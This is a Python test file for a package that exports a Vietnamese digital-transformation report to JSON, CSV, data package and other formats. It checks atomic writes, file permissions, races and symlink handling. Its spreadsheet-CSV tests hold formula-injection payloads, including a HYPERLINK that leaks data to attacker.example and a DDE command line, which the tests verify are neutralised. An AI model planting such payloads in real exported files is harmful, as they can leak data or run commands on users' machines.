"""Exports: atomic writes, no silent overwrite, exact values."""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
import threading
from decimal import Decimal
from pathlib import Path

import attrs
import pytest

import vinhphuc_dx
from vinhphuc_dx import _atomic, export


class TestWriteText:
    def test_failure_leaves_old_file_and_no_temporary(self, tmp_path, monkeypatch):
        """A crash mid-write keeps the old file whole and leaves no temporary file."""
        target = tmp_path / "r.json"
        target.write_text("old")

        def full_disk(_fd):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", full_disk)
        with pytest.raises(OSError, match="No space left"):
            _atomic.write_bytes(target, b"new", overwrite=True)
        assert target.read_text() == "old"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["r.json"]

    def test_refuses_to_overwrite(self, tmp_path):
        """Without overwrite=True an existing file is an error."""
        target = tmp_path / "r.json"
        target.write_text("old")
        with pytest.raises(FileExistsError, match="overwrite=True"):
            _atomic.write_bytes(target, b"new")
        assert target.read_text() == "old"


class TestFormats:
    def test_unknown_format(self, report, tmp_path):
        """An unknown format names the known ones."""
        with pytest.raises(
            ValueError, match="choose one of json, csv, datapackage, sqlite, xlsx"
        ):
            export.write(report, tmp_path / "x", "ods")

    def test_datapackage_tables(self, report, tmp_path):
        """The package has a table per collection with keys and enum constraints."""
        descriptor_path = export.write(report, tmp_path / "pkg", "datapackage")
        descriptor = json.loads(descriptor_path.read_text("utf-8"))
        names = [r["name"] for r in descriptor["resources"]]
        assert names == [
            "pillars",
            "indicators",
            "directives",
            "instruments",
            "projects",
            "goals",
            "people",
            "statements",
        ]
        indicators = descriptor["resources"][1]["schema"]
        fields = {f["name"]: f for f in indicators["fields"]}
        assert fields["unit"]["constraints"]["enum"] == [
            "count",
            "percent",
            "billion_vnd",
        ]
        assert fields["value"]["type"] == "number"
        assert fields["period_start"]["type"] == "date"
        assert indicators["primaryKey"] == ["id"]
        assert indicators["foreignKeys"][0]["reference"] == {
            "resource": "pillars",
            "fields": ["id"],
        }
        assert "Vietnam Business Forum" in descriptor["sources"][0]["title"]
        lines = (tmp_path / "pkg" / "indicators.csv").read_text("utf-8").splitlines()
        assert len(lines) == 39
        assert fields["as_written"]["type"] == "string"
        assert {
            "fields": ["attributed_to"],
            "reference": {"resource": "people", "fields": ["id"]},
        } in indicators["foreignKeys"]

    def test_datapackage_people_and_statements(self, report, tmp_path):
        """People and statements are tables; a statement names its person by id."""
        export.write(report, tmp_path / "pkg", "datapackage")
        people = list(
            csv.DictReader(
                io.StringIO((tmp_path / "pkg" / "people.csv").read_text("utf-8"))
            )
        )
        assert [(p["id"], p["name"]) for p in people] == [
            ("person.bui-hong-do", "Bùi Hồng Đô"),
            ("person.tran-duy-dong", "Trần Duy Đông"),
        ]
        statements = list(
            csv.DictReader(
                io.StringIO((tmp_path / "pkg" / "statements.csv").read_text("utf-8"))
            )
        )
        assert len(statements) == len(report.statements)
        focal = next(
            s for s in statements if s["id"] == "statement.fpt-cooperation-focal-point"
        )
        assert focal["attributed_to"] == "person.tran-duy-dong"
        assert {"label_en", "text_vi", "paragraph", "pillar"} <= set(focal)

    def test_csv_has_as_written(self, report):
        """The flat CSV carries each figure as printed, beside its value."""
        rows = list(csv.DictReader(io.StringIO(export.to_csv(report.indicators))))
        budget = rows[0]
        assert (budget["value"], budget["as_written"]) == ("1283", "trên 1.283 tỷ đồng")
        assert all(row["as_written"] for row in rows)

    def test_datapackage_not_overwritten(self, report, tmp_path):
        """A second export into the same directory needs overwrite=True."""
        export.write(report, tmp_path / "pkg", "datapackage")
        with pytest.raises(FileExistsError):
            export.write(report, tmp_path / "pkg", "datapackage")
        export.write(report, tmp_path / "pkg", "datapackage", overwrite=True)

    def test_csv_of_a_filtered_collection(self, report):
        """to_csv takes any collection of indicators."""
        text = export.to_csv(report.indicators.filter(unit="billion_vnd"))
        assert text.splitlines()[1].startswith("budget.total,,")
        assert len(text.splitlines()) == 2

    def test_json_round_trip_through_file(self, report, tmp_path):
        """write(json) then load gives an equal report."""
        path = export.write(report, tmp_path / "r.json")
        assert vinhphuc_dx.load(path) == report


def _leftovers(folder):
    """Hidden temporary files or folders an export left in *folder*."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.fixture
def umask():
    """Set the process umask for one test, and put the old one back."""
    old = os.umask(0o022)
    yield os.umask
    os.umask(old)


needs_posix = pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")


@needs_posix
class TestModes:
    @pytest.mark.parametrize(("mask", "mode"), [(0o022, 0o644), (0o002, 0o664)])
    def test_new_file_follows_umask(self, tmp_path, umask, mask, mode):
        """A new export has the mode the umask gives, not the temporary 0600."""
        umask(mask)
        for fmt in ("json", "csv"):
            path = export.write(vinhphuc_dx.load(), tmp_path / f"r.{fmt}", fmt)
            assert stat.S_IMODE(path.stat().st_mode) == mode

    @pytest.mark.usefixtures("umask")
    def test_force_keeps_mode(self, tmp_path):
        """Replacing a file keeps its permission bits."""
        target = tmp_path / "r.csv"
        target.write_text("old")
        target.chmod(0o640)
        export.write(vinhphuc_dx.load(), target, "csv", overwrite=True)
        assert stat.S_IMODE(target.stat().st_mode) == 0o640
        assert target.read_bytes().startswith(b"\xef\xbb\xbfid,")

    @pytest.mark.usefixtures("umask")
    def test_datapackage_follows_umask(self, tmp_path):
        """A new package folder is 0755 and its files 0644 under umask 022."""
        descriptor = export.write(vinhphuc_dx.load(), tmp_path / "pkg", "datapackage")
        assert stat.S_IMODE(descriptor.parent.stat().st_mode) == 0o755
        for path in descriptor.parent.iterdir():
            assert stat.S_IMODE(path.stat().st_mode) == 0o644, path

    @pytest.mark.usefixtures("umask")
    def test_datapackage_force_keeps_folder_mode(self, tmp_path):
        """Replacing a package keeps its folder's permission bits."""
        folder = tmp_path / "pkg"
        export.write(vinhphuc_dx.load(), folder, "datapackage")
        folder.chmod(0o750)
        export.write(vinhphuc_dx.load(), folder, "datapackage", overwrite=True)
        assert stat.S_IMODE(folder.stat().st_mode) == 0o750


def _race(write, rounds=30, writers=8):
    """Start *writers* calls of write(i) at once, *rounds* times.

    Returns, for each round, the indices that succeeded and the messages of
    the others.
    """
    results = []
    for round_ in range(rounds):
        barrier = threading.Barrier(writers)
        won, lost = [], []

        def one(i, round_=round_, barrier=barrier, won=won, lost=lost):
            barrier.wait()
            try:
                write(round_, i)
            except FileExistsError as exc:
                lost.append(str(exc))
            else:
                won.append(i)

        threads = [threading.Thread(target=one, args=(i,)) for i in range(writers)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        results.append((won, lost))
    return results


class TestRace:
    @pytest.mark.parametrize("links", [True, False], ids=["link", "no-links"])
    def test_one_of_eight_writers_wins(self, tmp_path, monkeypatch, links):
        """Of 8 exports started at once to one new path, exactly one succeeds."""
        if not links:  # a file system without hard links: exclusive create

            def no_link(*_args, **_kwargs):
                raise PermissionError(1, "Operation not permitted")

            monkeypatch.setattr(os, "link", no_link)
        body = "x" * 100_000

        def write(round_, i):
            _atomic.write_bytes(tmp_path / f"r{round_}.txt", f"{i}\n{body}".encode())

        for round_, (won, lost) in enumerate(_race(write)):
            assert len(won) == 1, (round_, won)
            assert len(lost) == 7
            assert all("exists; pass overwrite=True (--force)" in m for m in lost)
            text = (tmp_path / f"r{round_}.txt").read_text()
            assert text == f"{won[0]}\n{body}"
        assert _leftovers(tmp_path) == []

    def test_one_of_eight_packages_wins(self, tmp_path, report):
        """Of 8 data packages started at once to one new folder, one succeeds."""

        def write(round_, _):
            export.write(report, tmp_path / f"pkg{round_}", "datapackage")

        for won, lost in _race(write, rounds=5):
            assert (len(won), len(lost)) == (1, 7)
        assert _leftovers(tmp_path) == []


class TestPair:
    @pytest.mark.parametrize("links", [True, False], ids=["link", "no-links"])
    @pytest.mark.parametrize("failing", ["a.txt", "b.txt"])
    def test_failed_replace_leaves_old_files_and_no_copy(
        self, tmp_path, monkeypatch, failing, links
    ):
        """If either file of a pair cannot be replaced, both old files stay and no copy set aside is left."""
        if not links:  # the old files are set aside as copies

            def no_link(*_args, **_kwargs):
                raise PermissionError(1, "Operation not permitted")

            monkeypatch.setattr(os, "link", no_link)
        names = ["a.txt", "b.txt"]
        for name in names:
            (tmp_path / name).write_text(f"old {name}")
        real_replace = Path.replace

        def failing_replace(self, target):
            if self.name.endswith(".tmp") and Path(target).name == failing:
                raise OSError(5, "Input/output error")
            return real_replace(self, target)

        monkeypatch.setattr(Path, "replace", failing_replace)

        def fill(temporary):
            temporary.write_text("new")

        with pytest.raises(OSError, match="Input/output error") as caught:
            _atomic.write_files([(tmp_path / n, fill) for n in names], overwrite=True)
        assert str(tmp_path / failing) in str(caught.value)
        assert {n: (tmp_path / n).read_text() for n in names} == {
            n: f"old {n}" for n in names
        }
        assert sorted(p.name for p in tmp_path.iterdir()) == names

    def test_failed_copy_aside_leaves_old_files_and_no_copy(
        self, tmp_path, monkeypatch
    ):
        """Without hard links, a disk full while copying an old file aside leaves both old files and no part of the copy."""

        def no_link(*_args, **_kwargs):
            raise PermissionError(1, "Operation not permitted")

        def full_disk(source, copy, **_kwargs):
            Path(copy).write_bytes(Path(source).read_bytes()[:2])
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "link", no_link)
        monkeypatch.setattr(_atomic.shutil, "copy2", full_disk)
        names = ["a.txt", "b.txt"]
        for name in names:
            (tmp_path / name).write_text(f"old {name}")

        def fill(temporary):
            temporary.write_text("new")

        with pytest.raises(OSError, match="No space left"):
            _atomic.write_files([(tmp_path / n, fill) for n in names], overwrite=True)
        assert {n: (tmp_path / n).read_text() for n in names} == {
            n: f"old {n}" for n in names
        }
        assert sorted(p.name for p in tmp_path.iterdir()) == names


class TestDataPackageFolder:
    def test_users_folder_untouched_without_force(self, report, tmp_path):
        """A folder holding the user's own files is refused without --force."""
        folder = tmp_path / "mine"
        folder.mkdir()
        (folder / "indicators.csv").write_text("my own work")
        with pytest.raises(FileExistsError, match="exists; pass overwrite=True"):
            export.write(report, folder, "datapackage")
        assert (folder / "indicators.csv").read_text() == "my own work"
        assert sorted(p.name for p in folder.iterdir()) == ["indicators.csv"]
        assert _leftovers(tmp_path) == []

    def test_force_refuses_a_folder_that_is_no_package(self, report, tmp_path):
        """--force replaces a data package, not any folder given by mistake."""
        folder = tmp_path / "home"
        folder.mkdir()
        (folder / "thesis.tex").write_text("years of work")
        with pytest.raises(FileExistsError, match=r"without datapackage\.json"):
            export.write(report, folder, "datapackage", overwrite=True)
        assert (folder / "thesis.tex").read_text() == "years of work"

    def test_force_replaces_whole(self, report, tmp_path):
        """--force replaces the package whole: no file of the old one remains."""
        folder = tmp_path / "pkg"
        export.write(report, folder, "datapackage")
        (folder / "stale.csv").write_text("from an older release")
        export.write(report, folder, "datapackage", overwrite=True)
        assert "stale.csv" not in {p.name for p in folder.iterdir()}
        assert sorted(p.name for p in tmp_path.iterdir()) == ["pkg"]

    def test_failed_build_keeps_old_package(self, report, tmp_path, monkeypatch):
        """A disk full while writing the third table leaves the old package whole."""
        folder = tmp_path / "pkg"
        export.write(report, folder, "datapackage")
        for path in folder.iterdir():
            path.write_text(f"old {path.name}")
        calls = []

        def full_on_third(fd):
            calls.append(fd)
            if len(calls) == 3:
                raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", full_on_third)
        with pytest.raises(OSError, match="No space left") as caught:
            export.write(report, folder, "datapackage", overwrite=True)
        assert str(folder) in str(caught.value)
        assert ".tmp" not in str(caught.value)
        for path in folder.iterdir():
            assert path.read_text() == f"old {path.name}"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["pkg"]

    def test_failed_swap_puts_old_back(self, report, tmp_path, monkeypatch):
        """If the new folder cannot be renamed in, the old one is put back."""
        folder = tmp_path / "pkg"
        export.write(report, folder, "datapackage")
        (folder / "marker").write_text("old")
        real_rename = Path.rename

        def failing_rename(self, target):
            if self.name.endswith(".tmp"):
                raise OSError(5, "Input/output error")
            return real_rename(self, target)

        monkeypatch.setattr(Path, "rename", failing_rename)
        with pytest.raises(OSError, match="Input/output error"):
            export.write(report, folder, "datapackage", overwrite=True)
        assert (folder / "marker").read_text() == "old"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["pkg"]

    def test_file_where_the_folder_goes(self, report, tmp_path):
        """A regular file at the package's path is refused, even with --force."""
        path = tmp_path / "pkg"
        path.write_text("a file")
        with pytest.raises(FileExistsError, match="is a regular file"):
            export.write(report, path, "datapackage", overwrite=True)
        assert path.read_text() == "a file"


class TestOnlyRegularFiles:
    @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
    def test_fifo_refused_even_with_force(self, report, tmp_path):
        """A FIFO at the path stays a FIFO, even with --force."""
        path = tmp_path / "r.csv"
        os.mkfifo(path)
        with pytest.raises(FileExistsError, match="is a FIFO"):
            export.write(report, path, "csv", overwrite=True)
        assert stat.S_ISFIFO(path.lstat().st_mode)
        assert _leftovers(tmp_path) == []

    @pytest.mark.skipif(not hasattr(socket, "AF_UNIX"), reason="no Unix sockets")
    def test_socket_refused_even_with_force(self, report, tmp_path, monkeypatch):
        """A socket, like any file that is not regular, is never replaced."""
        monkeypatch.chdir(tmp_path)  # a short relative path fits sun_path
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind("s")
            with pytest.raises(FileExistsError, match="is a socket"):
                export.write(report, "s", "json", overwrite=True)
            assert stat.S_ISSOCK(os.lstat("s").st_mode)

    def test_directory_refused_even_with_force(self, report, tmp_path):
        """A directory where a file is wanted is refused, even with --force."""
        (tmp_path / "r.json").mkdir()
        with pytest.raises(FileExistsError, match="is a directory"):
            export.write(report, tmp_path / "r.json", "json", overwrite=True)
        assert (tmp_path / "r.json").is_dir()

    @pytest.mark.parametrize("force", [False, True])
    def test_symlink_never_written_through(self, report, tmp_path, force):
        """A link to a file is refused: neither it nor its target changes."""
        real = tmp_path / "real.csv"
        real.write_text("precious")
        link = tmp_path / "link.csv"
        link.symlink_to(real)
        with pytest.raises(FileExistsError, match="is a symbolic link"):
            export.write(report, link, "csv", overwrite=force)
        assert link.is_symlink()
        assert real.read_text() == "precious"

    @pytest.mark.parametrize("force", [False, True])
    def test_dangling_symlink_refused(self, report, tmp_path, force):
        """A dangling link is refused too, and nothing is created where it points."""
        link = tmp_path / "link.csv"
        link.symlink_to(tmp_path / "nowhere.csv")
        with pytest.raises(FileExistsError, match="is a symbolic link"):
            export.write(report, link, "csv", overwrite=force)
        assert link.is_symlink()
        assert not (tmp_path / "nowhere.csv").exists()


class TestErrorsNameTheTarget:
    def test_missing_directory(self, report, tmp_path):
        """A missing directory names the target, not the temporary file."""
        target = tmp_path / "no" / "r.json"
        with pytest.raises(FileNotFoundError) as caught:
            export.write(report, target)
        assert str(target) in str(caught.value)
        assert ".tmp" not in str(caught.value)

    @pytest.mark.parametrize("fmt", ["json", "csv", "datapackage"])
    def test_full_disk(self, report, tmp_path, monkeypatch, fmt):
        """A full disk names the target and leaves nothing behind."""

        def full_disk(_fd):
            raise OSError(28, "No space left on device")

        monkeypatch.setattr(os, "fsync", full_disk)
        target = tmp_path / "out"
        with pytest.raises(OSError, match="No space left") as caught:
            export.write(report, target, fmt)
        assert str(target) in str(caught.value)
        assert ".tmp" not in str(caught.value)
        assert list(tmp_path.iterdir()) == []

    @pytest.mark.parametrize("fmt", ["json", "datapackage"])
    def test_empty_path(self, report, fmt):
        """An empty path is an error, not the current directory."""
        with pytest.raises(ValueError, match="empty path"):
            export.write(report, "", fmt, overwrite=True)


class TestSpreadsheetCsv:
    @pytest.mark.parametrize(
        "label",
        [
            '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
        ],
    )
    def test_formula_from_a_users_file_is_neutralised(
        self, raw, write, tmp_path, label
    ):
        """A label a spreadsheet would evaluate gets a leading quote in the CSV."""
        raw["indicators"][0]["label"]["en"] = label
        raw["indicators"][0]["note"] = {"vi": label, "en": label}
        report = vinhphuc_dx.load(write(raw))
        path = export.write(report, tmp_path / "out.csv", "csv")
        with path.open(encoding=export.CSV_ENCODING, newline="") as stream:
            rows = list(csv.DictReader(stream))
        first = rows[0]
        assert first["label_en"] == "'" + label
        assert first["note_vi"] == "'" + label
        assert first["value"] == str(report.indicators[0].value)
        assert {r["id"]: r["value"] for r in rows}["gov.documents.signing-rate"] == (
            "99.7"
        )

    def test_programs_get_exact_text(self, raw, write, tmp_path):
        """JSON and the data package keep the label exactly, formula and all."""
        label = '=HYPERLINK("http://attacker.example/","x")'
        raw["indicators"][0]["label"]["en"] = label
        report = vinhphuc_dx.load(write(raw))
        again = vinhphuc_dx.load(export.write(report, tmp_path / "out.json"))
        assert again.indicators[0].label.en == label
        folder = export.write(report, tmp_path / "pkg", "datapackage").parent
        with (folder / "indicators.csv").open(encoding="utf-8", newline="") as f:
            assert next(csv.DictReader(f))["label_en"] == label
        assert export.to_csv(report.indicators).count(label.replace('"', '""')) == 1

    def test_plain_text_and_numbers_unchanged(self, report):
        """The bundled report's CSV is the same with and without neutralising."""
        assert export.to_csv(report.indicators, for_spreadsheet=True) == (
            export.to_csv(report.indicators)
        )

    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("=1+1", "'=1+1"),
            ("+84 24", "'+84 24"),
            ("-", "'-"),
            ("@x", "'@x"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("", ""),
            ("a=1", "a=1"),
            (" =1", " =1"),
            ("Chữ ký số", "Chữ ký số"),
        ],
    )
    def test_spreadsheet_safe(self, text, shown):
        """Only a cell starting with a formula character is prefixed."""
        assert export.spreadsheet_safe(text) == shown


class TestSwapErrors:
    def test_old_folder_that_cannot_move(self, report, tmp_path, monkeypatch):
        """If the old package cannot be moved aside, the error names only it."""
        folder = tmp_path / "pkg"
        export.write(report, folder, "datapackage")
        real_rename = Path.rename

        def busy(self, target):
            if self == folder:
                raise OSError(16, "Device or resource busy", str(self), None, target)
            return real_rename(self, target)

        monkeypatch.setattr(Path, "rename", busy)
        with pytest.raises(OSError, match="busy") as caught:
            export.write(report, folder, "datapackage", overwrite=True)
        assert str(caught.value) == f"[Errno 16] Device or resource busy: '{folder}'"
        assert sorted(p.name for p in tmp_path.iterdir()) == ["pkg"]


# A record kind the model might gain, made of the model's values, for TestColumns.


@attrs.frozen
class Row:
    id: str
    label: vinhphuc_dx.Text
    source: vinhphuc_dx.SourceRef
    period: vinhphuc_dx.Period | None
    group: vinhphuc_dx.Pillar | None
    amount: int | Decimal
    count: int | None
    ids: tuple[str, ...]


class TestColumns:
    """columns() reads a record class's fields and the model's value types."""

    def test_export_reexports_it(self):
        """export.columns is the one table's function."""
        from vinhphuc_dx import _table

        assert export.columns is _table.columns

    def test_any_record_class(self):
        """A new kind of record is flattened by its fields' types, in field order."""
        from vinhphuc_dx import _datapackage
        from vinhphuc_dx._table import columns

        row = Row(
            "r1",
            vinhphuc_dx.Text("chữ", "word"),
            vinhphuc_dx.SourceRef(3),
            None,
            vinhphuc_dx.load().pillars[0],
            Decimal("1.5"),
            None,
            ("a", "b"),
        )
        cols = columns(Row)
        assert [c.name for c in cols] == [
            "id",
            "label_vi",
            "label_en",
            "paragraph",
            "period_start",
            "period_end",
            "period_stated",
            "group",
            "amount",
            "amount_exact",
            "count",
            "ids",
        ]
        assert [c.get(row) for c in cols] == [
            "r1",
            "chữ",
            "word",
            3,
            None,
            None,
            None,
            "digital-government",
            Decimal("1.5"),
            Decimal("1.5"),
            None,
            "a b",
        ]
        specs = {c.name: _datapackage._field(c) for c in cols}
        assert specs["amount"]["type"] == "number"
        assert specs["amount"]["constraints"] == {"minimum": 0, "required": True}
        assert specs["paragraph"]["constraints"] == {"minimum": 1, "required": True}
        assert "constraints" not in specs["period_end"]
        assert specs["period_end"]["type"] == "date"
        assert specs["count"]["type"] == "integer"
        assert "constraints" not in specs["count"]
